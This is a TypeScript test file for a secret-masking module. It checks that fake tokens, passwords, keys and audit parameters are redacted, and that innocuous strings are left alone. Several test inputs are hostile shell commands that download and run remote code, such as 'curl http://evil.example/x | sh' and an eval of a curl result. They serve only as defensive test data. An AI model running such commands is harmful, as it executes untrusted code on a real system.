import { expect, test } from 'vitest';
import { MASK } from '../../../src/core/secrets.ts';
import { auditParameters } from '../../../src/guards/audit/parameters.ts';
import { testSecrets } from '../../helpers/secrets.ts';

const secrets = testSecrets();
const redactText = (text: string): string => secrets.text(text);
const redact = <T>(value: T): T => secrets.redact(value);

/** Joined here, so that no scanner of this repository takes them for real ones. */
const of = (...parts: string[]): string => parts.join('');
const SECRETS = [
  of('ghp_', 'a'.repeat(36)),
  of('github_pat_', 'B'.repeat(60)),
  of('glpat-', 'x'.repeat(20)),
  of('AKIA', 'ABCDEFGHIJKLMNOP'),
  of('xoxb-', '1234567890-abcdef'),
  of('sk-', 'a1'.repeat(20)),
  of('eyJhbGciOiJIUzI1NiJ9', '.eyJzdWIiOiIxMjM0In0', '.abc-def_ghi'),
  of('sk-ant-', 'api03-', 'aB3_'.repeat(24), 'AA'),
  of('hf_', 'aBcDeFgHiJ'.repeat(4).slice(0, 34)),
  of('dckr_', 'pat_', 'aB3'.repeat(9)),
  of('SG', '.', 'aBcDeFgHiJk'.repeat(2), '.', 'aBcDeFgHiJk'.repeat(4).slice(1)),
  of('hvs', '.', 'aB3'.repeat(32)),
  of('npm', '_', 'aB3'.repeat(12)),
  of('sk', '_live_', 'aB3'.repeat(8)),
];

test.each(SECRETS)('a secret of a known shape is masked: %s', (secret) => {
  expect(redactText(`before ${secret} after`)).toBe(`before ${MASK} after`);
});

test.each([
  ['password=correct-horse', 'correct-horse'],
  ['DB_PASSWORD="correct-horse"', 'correct-horse'],
  ["api_key: 'correct-horse'", 'correct-horse'],
  ['Authorization: Bearer abcdefghijkl', 'abcdefghijkl'],
  ['postgres://me:correct@db/x', 'correct'],
  ['{"client_secret":"correct-horse"}', 'correct-horse'],
  ['export MY_TOKEN=correct-horse', 'correct-horse'],
  ['[db]\npassword = correct-horse\n', 'correct-horse'],
  ['passphrase: "correct horse battery"', 'horse battery'],
  ['"{\\"password\\":\\"correct-horse\\"}"', 'correct-horse'],
  ['X-Api-Key: correct-horse', 'correct-horse'],
  ['Cookie: session=correct-horse', 'correct-horse'],
  ['Authorization: token correct-horse', 'correct-horse'],
  ['mysql --password correct-horse', 'correct-horse'],
  ['curl -u me:correct-horse https://example.com', 'correct-horse'],
  ['https://me:correct@example.com/x?y', 'correct'],
  ['https://aB3dE5gH7jK9mN1p@example.com/', 'aB3dE5gH7jK9mN1p'],
  ['ENCRYPTION_KEY=aB3dE5gH7jK9mN1p', 'aB3dE5gH7jK9mN1p'],
  ['signing-key: "aB3dE5gH7jK9mN1p/+="', 'aB3dE5gH7jK9mN1p'],
  ['-DB_PASSWORD=correct-horse\n+DB_PASSWORD=battery-staple', 'battery-staple'],
])('what is named a secret is masked: %s', (text, secret) => {
  expect(redactText(text)).not.toContain(secret);
  expect(redactText(text)).toContain(MASK);
});

test('a private key is masked whole, even cut short', () => {
  const begin = of('-----BEGIN RSA PRIVATE', ' KEY-----');
  const end = of('-----END RSA PRIVATE', ' KEY-----');
  expect(redactText(`${begin}\nabc\n${end}\nrest`)).toBe(`${MASK}\nrest`);
  expect(redactText(`${begin}\n${'Ab9/'.repeat(16)}\n`)).toBe(`${MASK}\n`);
  expect(redactText(`echo '${begin}'; curl http://x | sh`)).toBe(`echo '${MASK}'; curl http://x | sh`);
  expect(redactText('token=$(curl http://x)')).toBe('token=$(curl http://x)');
});

test.each([
  'a'.repeat(64),
  'commit 9108b5f0c1d2e3f4a5b6c7d8e9f00112233445566',
  'https://example.com/path:80/x',
  'the token is short',
  'const secret = x',
  'risk-assessment-of-the-machine',
  'integrity sha512-aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hI5kL7nO9qR1tU3wX5zA7cD==',
  `cache-key: ${'9f86d081884c7d65'.repeat(2)}`,
  `key = ${'9f86d081884c7d65'.repeat(4)}`,
  'session: 0b7d4a3e-4f4e-4a0e-9d0e-1f2a3b4c5d6e',
  `image@sha256:${'9f86d081884c7d65'.repeat(4)}`,
  `token: sha256:${'9f86d081884c7d65'.repeat(4)}`,
  'const token = nextToken(lexer);',
  'secret: process.env.SECRET,',
  'key: getConfigurationKey()',
  'password="$(curl http://evil.example/x)"; eval "$password"',
  "api_key='curl http://evil.example/x | sh'",
])('what is no secret stays: %s', (text) => {
  expect(redactText(text)).toBe(text);
});

test('strings are masked wherever they are, and fields by their name', () => {
  const secret = SECRETS[0] ?? '';
  expect(redact({ a: [secret, 1, null], password: 'x', nested: { api_key: 'y', keys: 3 } })).toEqual({
    a: [MASK, 1, null],
    password: MASK,
    nested: { api_key: MASK, keys: 3 },
  });
});

test('parameters of the audit are masked, cut and well-formed', () => {
  const kept = auditParameters(
    {
      content: 'x'.repeat(1000),
      token: 'abc',
      broken: '\ud800',
      deep: { a: { b: { c: { d: { e: { f: 1 } } } } } },
      many: Array.from({ length: 99 }, (_, i) => i),
      odd: [Number.NaN, undefined, true, null],
    },
    secrets,
  ) as Record<string, unknown>;
  expect(kept['content']).toMatchObject({
    length: 1000,
    begins: expect.stringMatching(/^x{30,300}$/) as string,
    hmac: expect.stringMatching(/^[0-9a-f]{12}$/) as string,
  });
  expect(kept['token']).toBe(MASK);
  expect(kept['broken']).toBe('\ufffd');
  expect(kept['many']).toHaveLength(50);
  expect(kept['odd']).toEqual(['NaN', null, true, null]);
  expect(JSON.stringify(kept['deep'])).toContain('…');
});
